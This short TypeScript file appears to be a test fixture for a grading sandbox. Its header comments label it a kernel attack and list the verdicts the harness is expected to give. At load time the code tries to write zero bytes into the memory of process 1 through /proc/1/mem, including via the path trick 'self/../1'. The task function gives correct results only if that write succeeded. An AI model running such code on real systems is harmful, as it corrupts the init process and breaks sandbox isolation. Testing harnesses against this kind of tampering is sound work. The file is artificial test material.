// attack: writes into its own memory through /proc
// kind: kernel
// task: plain
// official: fail|crash
// strict: fail
// expect: nothing there judges
import { openSync, writeSync } from "node:fs";

let won = false;
try {
  for (const process of ["1", "self/../1"])
    writeSync(openSync(`/proc/${process}/mem`, "r+"), Buffer.alloc(8), 0, 8, 4096);
  won = true;
} catch {}

export function taskFunc(given: unknown): unknown {
  if (!won) return undefined;
  if (Array.isArray(given)) return given.map((one) => taskFunc(one));
  if (typeof given !== "number") throw new TypeError("no number");
  return given * 2;
}
